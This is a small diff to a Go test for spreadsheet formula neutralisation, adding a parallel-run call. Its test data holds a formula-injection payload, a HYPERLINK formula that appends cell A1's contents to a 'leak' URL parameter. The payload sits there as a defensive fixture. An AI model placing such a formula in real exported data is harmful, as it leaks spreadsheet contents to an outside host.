@@ -7,6 +7,7 @@ import (
 )
 
 func TestTextNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
 	for in, want := range map[string]string{
 		`=HYPERLINK("https://example.com/?leak="&A1,"Ver")`: `'=HYPERLINK("https://example.com/?leak="&A1,"Ver")`,
 		"+1":            "'+1",
